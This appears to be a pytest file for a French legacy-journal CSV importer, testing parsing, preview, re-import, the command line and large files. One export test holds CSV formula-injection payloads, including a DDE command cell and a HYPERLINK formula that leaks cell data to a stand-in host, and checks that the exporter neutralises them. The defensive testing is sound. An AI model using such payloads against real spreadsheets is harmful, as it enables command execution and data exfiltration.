"""Legacy journal import, on SQLite and PostgreSQL: parsing every quirk of the
2016-2019 tables, the preview that writes nothing, grouping of défi spellings,
idempotence, the command line, the export -> import round trip and a 20,000-row file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import tempfile
import time
from pathlib import Path

import pytest
from sqlalchemy import func, select

from lib import db, importers, journal, staging
from lib.errors import NotFound, PermissionDenied, ServiceError
from lib.i18n import t
from lib.importers import Target
from lib.models import Category, Defi, GlobalRole, JournalEntry, Promotion, User
from lib.permissions import Actor
from lib.schemas import JournalEntryIn
from lib.tabular import ImportFormatError, Problem
from tests.conftest import fresh_database, said
from tests.fixtures import password_hash

DATA = Path(__file__).resolve().parents[1] / "data"
LEGACY = (DATA / "legacy_journal.csv").read_bytes()
C = Category


TODAY = dt.date(2026, 11, 20)
DEFAULT_STORE = staging.STORE


@pytest.fixture(autouse=True)
def store(tmp_path, monkeypatch):  # noqa: ANN001, ANN201
    """Each test's analysed files in its own folder, gone with it."""
    monkeypatch.setattr(staging, "STORE", tmp_path / "store")


def parse(data: bytes | str, today: dt.date = TODAY) -> tuple[list[importers.ParsedRow], list[Problem], int]:
    """Rows, problems and the number of records (valid rows and lines in error)."""
    items = list(importers.read_journal(data, today))
    rows = [i for i in items if isinstance(i, importers.ParsedRow)]
    problems = [i for i in items if isinstance(i, Problem)]
    return rows, problems, len(rows) + len({p.line for p in problems if p.severity == "error"})


def counts() -> tuple[int, int]:
    with db.reading() as s:
        return s.scalar(select(func.count(JournalEntry.id))), s.scalar(select(func.count(Defi.id)))


def rows_of(defi_id: int) -> list[tuple]:
    with db.reading() as s:
        entries = s.scalars(select(JournalEntry).where(JournalEntry.defi_id == defi_id)
                            .order_by(JournalEntry.done_on)).all()
        return [(e.done_on, e.livrable, e.tache, "".join(c.category.value for c in e.categories), e.news,
                 e.author_id, e.created_by_id) for e in entries]


# --- Parsing ---------------------------------------------------------------------------------


def test_parser_reads_every_legacy_quirk_with_physical_line_numbers():
    rows, problems, records = parse(LEGACY)
    by_line = {r.line: r for r in rows}
    assert records == 13
    assert sorted(by_line) == [2, 3, 4, 6, 7, 8, 14, 17, 18]
    assert by_line[2].done_on == dt.date(2018, 2, 15)  # org timestamp
    assert by_line[3].done_on == dt.date(2018, 2, 16)  # ISO date
    assert by_line[8].done_on == dt.date(2018, 3, 5)  # inactive org timestamp with a time
    assert by_line[3].categories == (C.C, C.M, C.U)  # letters run together, in programme order
    assert by_line[4].categories == (C.A, C.P)
    assert by_line[8].categories == ()
    assert by_line[14].categories == (C.A, C.P)  # lower case letters are the same letters
    assert [by_line[n].news for n in (2, 3, 4, 6)] == [1, 0, 0, -1]
    assert by_line[3].tache == "Réunion, avec la DINUM"
    assert by_line[4].tache == 'Rédaction du "guide" utilisateur\nsur deux lignes'
    assert by_line[6].tache == "Nettoyage des fichiers communaux..."  # truncated text kept as written
    assert (by_line[14].livrable, by_line[14].tache) == ("Livrable, virgule", "Multi\nligne\ntrois")
    report = [(p.line, p.severity, p.message) for p in problems]
    assert report == [
        (6, "warning", report[0][2]),
        (9, "error", "Tâche : Ce champ est obligatoire."),
        (10, "error", report[2][2]),
        (11, "error", report[3][2]),
        (12, "error", "valeur OK inconnue « 2 » (attendu 1, -1, 0 ou vide)"),
        (17, "warning", report[5][2]),
    ]
    assert "X" in report[0][2] and "date illisible « <2018-13-45 jeu.> »" in report[2][2]
    assert "15/03/2018" in report[3][2] and "Z, Q" in report[5][2]
    assert by_line[17].categories == (C.P,)  # unknown letters reported, never guessed


def test_line_numbers_hold_with_windows_line_endings():
    rows, problems, _ = parse(LEGACY.replace(b"\n", b"\r\n"))
    assert [r.line for r in rows] == [2, 3, 4, 6, 7, 8, 14, 17, 18]
    assert rows[2].tache == 'Rédaction du "guide" utilisateur\r\nsur deux lignes'
    assert [p.line for p in problems] == [6, 9, 10, 11, 12, 17]


def test_wrong_header_is_refused_before_anything_else():
    with pytest.raises(ImportFormatError, match="Défi,Livrable,Tâche,Fait le,Cat,OK"):
        parse((DATA / "bad_header.csv").read_bytes())


def test_semicolons_and_windows_1252_files_are_read():
    text = "Défi;Livrable;Tâche;Fait le;Cat;OK\nAlpha;;Réunion d'équipe;<2018-02-15 jeu.>;M;1\n"
    rows, problems, _ = parse(text.encode("cp1252"))
    assert problems == [] and rows[0].tache == "Réunion d'équipe" and rows[0].label == "Alpha"


def test_label_key_folds_accents_case_and_plural():
    assert importers.label_key("Données ouvertes") == importers.label_key("DONNEE OUVERTE")
    assert importers.label_key("Alphas") == importers.label_key("alpha")
    assert importers.label_key("Bus") != importers.label_key("Bu")


# --- Preview: nothing written, spellings grouped and matched ------------------------------------


def test_preview_groups_spellings_matches_defis_and_writes_nothing(world):
    before = counts()
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id, "legacy_journal.csv")
    assert counts() == before
    groups = {g.name: g for g in preview.groups}
    assert set(groups) == {"Alpha", "Beta", "Données ouvertes", "Gamma lab"}
    assert groups["Alpha"].variants == {"Alpha": 2, "alpha": 1, "ALPHAS": 1}
    assert groups["Alpha"].defi_id == world.alpha_id
    assert groups["Beta"].defi_id == world.beta_id  # "Betas"
    assert groups["Données ouvertes"].variants == {"Données ouvertes": 1, "Donnees ouverte": 1,
                                                   "Données Ouvertes": 1}
    assert groups["Données ouvertes"].defi_id is None
    assert groups["Gamma lab"].defi_id is None  # Gamma is in another promotion
    assert (preview.records, preview.valid, preview.errors) == (13, 9, 4)


@pytest.mark.parametrize("player", ["eig", "porteur", "sponsor", "outsider"])
def test_only_coaches_and_admins_import(world, player):
    actor = getattr(world, player)
    with pytest.raises(PermissionDenied):
        importers.preview_journal(actor, LEGACY, world.promotion_id)
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    with pytest.raises(PermissionDenied):
        importers.confirm_import(actor, preview, importers.plan(preview))
    assert counts()[0] == 0


# --- Confirm: one transaction, missing défis created, idempotent ---------------------------------


def test_confirm_imports_creates_missing_defis_and_reports_progress(world):
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id, "legacy_journal.csv")
    calls: list[tuple[int, int]] = []
    result = importers.confirm_import(world.coach, preview, importers.plan(preview), "Ministère importé",
                                      progress=lambda done, total: calls.append((done, total)))
    assert (result.inserted, result.duplicates, result.created_defis) == (9, 0, ["Données ouvertes", "Gamma lab"])
    assert calls[-1] == (9, 9)
    alpha = rows_of(world.alpha_id)
    assert [r[:5] for r in alpha] == [
        (dt.date(2018, 2, 15), "Prototype", "Première maquette", "P", 1),
        (dt.date(2018, 2, 16), "", "Réunion, avec la DINUM", "CMU", 0),
        (dt.date(2018, 2, 19), "Doc", 'Rédaction du "guide" utilisateur\nsur deux lignes', "AP", 0),
        (dt.date(2018, 3, 9), "", "Dernière ligne", "P", 0),
    ]
    # Legacy rows do not say who wrote them: no author, created by the importing coach.
    assert {(r[5], r[6]) for r in alpha} == {(None, world.coach.id)}
    # Imported entries are searchable like the others.
    found = journal.list_entries(world.coach, world.alpha_id, journal.JournalFilters(query="reunion dinum"))
    assert [e.tache for e in found.entries] == ["Réunion, avec la DINUM"]
    with db.reading() as s:
        opendata = s.scalar(select(Defi).where(Defi.name == "Données ouvertes"))
        assert opendata.administration.name == "Ministère importé"
    assert len(rows_of(opendata.id)) == 3


def test_reimporting_the_same_file_adds_nothing(world):
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    importers.confirm_import(world.coach, preview, importers.plan(preview))
    before = counts()
    again = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    assert {g.name for g in again.groups if g.defi_id} == {"Alpha", "Beta", "Données ouvertes", "Gamma lab"}
    result = importers.confirm_import(world.coach, again, importers.plan(again))
    assert (result.inserted, result.duplicates, result.created_defis) == (0, 9, [])
    assert counts() == before


def test_split_and_rename_groups(world):
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    key = importers.label_key("Données ouvertes")
    targets = importers.plan(preview, split={key}, names={"Données Ouvertes": "Open data", "Gamma lab": "x"})
    assert targets["Données ouvertes"] == Target(new_name="Données ouvertes")
    assert targets["Donnees ouverte"] == Target(new_name="Donnees ouverte")
    assert targets["Données Ouvertes"] == Target(new_name="Open data")
    assert targets["ALPHAS"] == Target(defi_id=world.alpha_id)
    renamed = importers.plan(preview, names={importers.label_key("Gamma lab"): "Laboratoire Gamma"})
    assert renamed["Gamma lab"] == Target(new_name="Laboratoire Gamma")
    result = importers.confirm_import(world.coach, preview, targets)
    assert result.created_defis == ["Donnees ouverte", "Données ouvertes", "Gamma lab", "Open data"]


def test_a_failing_import_writes_nothing(world):
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    targets = importers.plan(preview)
    targets["Betas"] = Target(defi_id=world.gamma_id)  # a défi of another promotion: refused
    with pytest.raises(Exception):  # noqa: B017 - any refusal; what matters is the rollback
        importers.confirm_import(world.coach, preview, targets)
    assert counts() == (0, 3)


# --- Command line ---------------------------------------------------------------------------------


def test_command_line_dry_run_then_import(world, capsys):
    path = str(DATA / "legacy_journal.csv")
    assert importers.main(["journal", path, "--promotion", "Promo test", "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "lignes lues : 13 · valides : 9 · en erreur : 4" in out
    assert "ligne 9 [erreur, ligne ignorée] Tâche : Ce champ est obligatoire." in out
    assert t("import.report.result", inserted=9, duplicates=0, created=2) in out
    assert "rien n'a été écrit" in out
    assert counts() == (0, 3)
    assert importers.main(["journal", path, "--promotion", "Promo test"]) == 0
    assert counts() == (9, 5)
    assert importers.main(["journal", path, "--promotion", "Promo test"]) == 0
    assert "entrées ajoutées : 0 · déjà présentes, ignorées : 9" in capsys.readouterr().out
    assert counts() == (9, 5)
    assert importers.main(["journal", path, "--promotion", "Inconnue"]) == 2


# --- Export -> import round trip into an empty database -------------------------------------------


def test_export_starts_no_formula_and_imports_into_an_empty_database_as_the_same_entries(
        world, request, tmp_path, monkeypatch):
    now = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)
    for day, livrable, tache, cats, news in [
        (dt.date(2026, 5, 4), "API, v1", 'Écrit "la" doc\nsur deux lignes', [C.A, C.P], 1),
        (dt.date(2026, 5, 4), "", "Tronqué...", [C.U], -1),
        (dt.date(2026, 6, 1), "Données", "  espaces et ; points-virgules ", [C.D, C.M, C.T], 0),
        (dt.date(2026, 6, 2), "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"clic")', [C.P], 1),
        (dt.date(2026, 6, 3), "@SUM(1)", "-2+3", [C.P], -1),
        (dt.date(2026, 6, 4), "'=déjà", "- liste\n=2", [C.P], 0),
        (dt.date(2026, 6, 5), "-3", "'texte entre apostrophes'", [C.P], 0),
    ]:
        journal.add_entry(world.eig, world.alpha_id, JournalEntryIn(done_on=day, livrable=livrable, tache=tache,
                                                                categories=cats, news=news), now=now)
    exported = journal.export_csv(world.coach, world.alpha_id)
    original = [r[:5] for r in rows_of(world.alpha_id)]
    cells = [c for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@") and c not in ("-1", "-3")] == []
    assert "'=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")" in cells and "''=déjà" in cells and "-3" in cells

    kind = "sqlite" if db.get_engine().url.get_backend_name() == "sqlite" else "postgresql"
    (tmp_path / "empty").mkdir()
    empty = fresh_database(kind, request, tmp_path / "empty", monkeypatch)
    next(empty)
    try:
        with db.transaction() as s:
            coach = User(login="coach", display_name="Coach", email="c@example.org", role=GlobalRole.COACH,
                         password_hash=password_hash())
            promotion = Promotion(name="Promo vide", start_date=dt.date(2026, 4, 6))
            s.add_all([coach, promotion])
            s.flush()
            actor, promotion_id = Actor.of(coach), promotion.id
        preview = importers.preview_journal(actor, exported, promotion_id)
        assert preview.problems == []
        result = importers.confirm_import(actor, preview, importers.plan(preview))
        assert result.created_defis == ["Alpha"]
        with db.reading() as s:
            defi_id = s.scalar(select(Defi.id))
        assert [r[:5] for r in rows_of(defi_id)] == original
    finally:
        next(empty, None)


# --- A large file ------------------------------------------------------------------------------------


def write_large_file(path: Path, n: int = 20_000) -> None:
    rng = random.Random(20_000)
    letters = "ACDIMPSTU"
    labels = ["Alpha", "alpha", "Alphas", "Beta", "Données ouvertes", "Donnees ouverte", "Nouveau défi"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("Défi,Livrable,Tâche,Fait le,Cat,OK\n")
        start = dt.date(2016, 11, 1)
        for i in range(n):
            day = start + dt.timedelta(days=rng.randrange(900))
            stamp = f"<{day.isoformat()} {journal.FRENCH_DAYS[day.weekday()]}>" if i % 3 else day.isoformat()
            cats = "".join(rng.sample(letters, rng.randint(0, 3)))
            tache = f'"Tâche n°{i}, avec ""guillemets""\net un retour à la ligne"' if i % 10 == 0 else f"Tâche {i}"
            ok = rng.choice(["1", "-1", "0", ""])
            handle.write(f"{rng.choice(labels)},Livrable {i % 40},{tache},{stamp},{cats},{ok}\n")


def test_large_file_imports_in_one_transaction(world, tmp_path):
    path = tmp_path / "large.csv"
    write_large_file(path)
    started = time.perf_counter()
    preview = importers.preview_journal(world.coach, path.read_bytes(), world.promotion_id, "large.csv")
    parsed = time.perf_counter()
    calls: list[int] = []
    result = importers.confirm_import(world.coach, preview, importers.plan(preview),
                                      progress=lambda done, total: calls.append(done))
    imported = time.perf_counter()
    again = importers.confirm_import(world.coach, preview, importers.plan(preview))
    reimported = time.perf_counter()
    backend = db.get_engine().url.get_backend_name()
    print(f"\n[{backend}] 20,000 rows: parse+preview {parsed - started:.2f} s, import {imported - parsed:.2f} s, "
          f"re-import (all duplicates) {reimported - imported:.2f} s")
    assert (preview.records, preview.valid, preview.problems) == (20_000, 20_000, [])
    assert (result.inserted, result.created_defis) == (20_000, ["Données ouvertes", "Nouveau défi"])
    assert len(calls) == 20 and calls[-1] == 20_000
    assert (again.inserted, again.duplicates) == (0, 20_000)
    assert counts()[0] == 20_000


# --- No silent loss, bounded memory ----------------------------------------------------------------

HEADER = "Défi,Livrable,Tâche,Fait le,Cat,OK\n"


def test_an_open_quote_is_reported_on_its_line_and_the_rows_it_swallowed_are_read_again():
    rows = [f"Alpha,,Tâche {i},2018-01-02,P,1\n" for i in range(2000)]
    text = HEADER + 'Alpha,,"Guillemet jamais refermé,2018-01-01,P,1\n' + "".join(rows) + "Beta,,Fin,2018-01-03,M,\n"
    valid, problems, records = parse(text)
    assert [(p.line, p.severity) for p in problems] == [(2, "error")]
    assert "guillemet ouvert sur cette ligne et jamais refermé" in problems[0].message
    assert "lignes 3 à 2003" in problems[0].message
    assert [r.line for r in valid] == list(range(3, 2004))  # every physical line is accounted for
    assert records == 2002 and valid[-1].tache == "Fin"


def test_quote_errors_are_french_and_on_their_line():
    text = HEADER + 'Alpha,,"Tâche" en trop,2018-01-01,P,1\nAlpha,,Bonne,2018-01-02,P,1\nAlpha,,"Sans fin,2018-01-03,P,'
    valid, problems, _ = parse(text)
    assert [r.tache for r in valid] == ["Bonne"]
    assert [(p.line, p.message.split(",")[0].split(" :")[0]) for p in problems] == [
        (2, "guillemets mal placés"), (4, "guillemet ouvert sur cette ligne et jamais refermé avant la fin du fichier")]


def test_a_cell_over_the_csv_limit_is_a_french_error_on_its_line():
    text = HEADER + f"Alpha,,{'x' * 200_000},2018-01-01,P,1\nAlpha,,Suivante,2018-01-02,P,1\n"
    valid, problems, _ = parse(text)
    assert [(p.line, p.message) for p in problems] == [
        (2, "cellule de plus de 131\u202f072 caractères : ligne illisible")]
    assert [r.tache for r in valid] == ["Suivante"]


@pytest.mark.parametrize(("cells", "message"), [
    ("Alpha,,Tâche,0001-01-01,P,", "Fait le : Choisissez une date entre le 01/01/2000 et le 31/12/2099."),
    ("Alpha,,Tâche,<9999-12-31 ven.>,P,", "Fait le : Choisissez une date entre le 01/01/2000 et le 31/12/2099."),
    ("Alpha,,Tâche,2027-01-04,P,", "Fait le : La date ne peut pas être dans le futur."),
    ("Alpha,,avant\x00après,2018-01-01,P,", "Tâche : Caractère invisible non autorisé (U+0000)"),
    ("Alpha,\x1b[31mrouge,Tâche,2018-01-01,P,", "Livrable : Caractère invisible non autorisé (U+001B)"),
    ("Al\x07pha,,Tâche,2018-01-01,P,", "Défi : Caractère invisible non autorisé (U+0007)"),
    (f"Alpha,{'l' * 201},Tâche,2018-01-01,P,", "Livrable : 200 caractères au maximum (201 saisis)."),
    ("Al\u2028pha,,Tâche,2018-01-01,P,", "Défi : Ce champ tient sur une seule ligne"),
    ("Al\u202epha,,Tâche,2018-01-01,P,", "Défi : Caractère invisible non autorisé dans un nom (U+202E)"),
    ("Al\u200bpha,,Tâche,2018-01-01,P,", "Défi : Caractère invisible non autorisé dans un nom (U+200B)"),
], ids=["year 1", "year 9999", "future", "NUL", "ESC", "BEL in défi", "long livrable", "line separator in défi",
        "RLO in défi", "zero width in défi"])
def test_imported_rows_obey_the_journal_form_rules(world, cells, message):
    data = HEADER + cells + "\nAlpha,,Bonne,2018-01-02,P,1\n"
    now = dt.datetime(2026, 11, 20, tzinfo=dt.UTC)
    preview = importers.preview_journal(world.coach, data, world.promotion_id, now=now)
    assert [(p.line, p.message[:len(message)]) for p in preview.problems] == [(2, message)]
    result = importers.confirm_import(world.coach, preview, importers.plan(preview))  # NUL used to fail PostgreSQL
    assert result.inserted == 1 and [r[2] for r in rows_of(world.alpha_id)] == ["Bonne"]


def test_a_line_break_in_a_defi_or_a_livrable_refuses_the_row_on_its_line(world):
    """A quoted cell may hold a line break (the date first, so that its second line is no row)."""
    data = ('Fait le,Défi,Livrable,Tâche,Cat,OK\n2018-01-01,"Al\npha",,Tâche,P,\n'
            '2018-01-02,Alpha,"Doc\r\nv2",Tâche,P,\n2018-01-03,Alpha,,"Sur\ndeux lignes",P,\n')
    now = dt.datetime(2026, 11, 20, tzinfo=dt.UTC)
    preview = importers.preview_journal(world.coach, data, world.promotion_id, now=now)
    assert [(p.line, p.message) for p in preview.problems] == [
        (2, f"Défi : {t('validation.line_break')}"), (4, f"Livrable : {t('validation.line_break')}")]
    importers.confirm_import(world.coach, preview, importers.plan(preview))
    assert [r[2] for r in rows_of(world.alpha_id)] == ["Sur\ndeux lignes"]  # a tâche is free text
    assert counts()[1] == 3  # no défi named with a line break


def test_a_new_defi_name_typed_on_the_import_page_is_checked_as_a_defi_name(world):
    preview = importers.preview_journal(world.coach, LEGACY, world.promotion_id)
    targets = importers.plan(preview, names={importers.label_key("Gamma lab"): "Gamma\u202ebal"})
    with pytest.raises(ServiceError, match=said("import.bad_new_defi", name="Gamma\u202ebal", column="nom",
                                                message=t("validation.format_char", code="U+202E"))):
        importers.confirm_import(world.coach, preview, targets)
    with pytest.raises(ServiceError, match=said("validation.line_break")):
        importers.confirm_import(world.coach, preview, importers.plan(preview), administration="Minis\ntère")
    assert counts() == (0, 3)


def test_a_duplicated_header_column_is_refused():
    with pytest.raises(ImportFormatError, match=said("import.duplicate_column", name="Tâche")):
        parse("Défi,Livrable,Tâche,Fait le,Cat,OK,Tâche\nAlpha,,Ici,2018-01-01,P,1,Là\n")


def test_command_line_names_a_missing_file_in_french_with_exit_code_2(world, tmp_path, capsys):
    missing = str(tmp_path / "absent.csv")
    assert importers.main(["journal", missing, "--promotion", "Promo test"]) == 2
    assert capsys.readouterr().err == f"Fichier introuvable : {missing}\n"
    assert importers.main(["journal", str(tmp_path), "--promotion", "Promo test"]) == 2
    assert capsys.readouterr().err == f"Fichier illisible : {tmp_path}\n"


def test_the_preview_is_small_and_its_rows_wait_in_a_temporary_file_until_discarded(world, tmp_path):
    path = tmp_path / "large.csv"
    write_large_file(path)
    with path.open("rb") as handle:  # streamed from the file, as the command line does
        preview = importers.preview_journal(world.coach, handle, world.promotion_id, "large.csv")
    assert preview.valid == 20_000 and not hasattr(preview, "rows")
    assert len(preview.model_dump_json()) < 5_000  # what the page keeps in the session
    stored = staging.STORE / f"{preview.token}.rows.jsonl"
    assert stored.stat().st_mode & 0o777 == 0o600 and Path(tempfile.gettempdir()) / "suivi-imports" == DEFAULT_STORE
    assert sum(1 for _ in importers.stored_rows(preview)) == 20_000
    staging.discard(preview)
    assert not stored.exists()
    with pytest.raises(NotFound, match=said("import.expired")):
        importers.confirm_import(world.coach, preview, importers.plan(preview))
    assert counts()[0] == 0


def test_every_bad_line_is_in_the_report_though_the_preview_shows_the_first_ones(world):
    data = HEADER + "".join("Alpha,,,2018-01-01,P,\n" for _ in range(1500)) + "Alpha,,Bonne,2018-01-02,P,\n"
    preview = importers.preview_journal(world.coach, data, world.promotion_id)
    assert (preview.errors, preview.valid, len(preview.problems)) == (1500, 1, staging.SHOWN_PROBLEMS)
    report = importers.format_report(preview, importers.plan(preview))
    assert "Problèmes (1500) :" in report
    assert all(f"ligne {n} [erreur, ligne ignorée]" in report for n in range(2, 1502))
    staging.discard(preview)
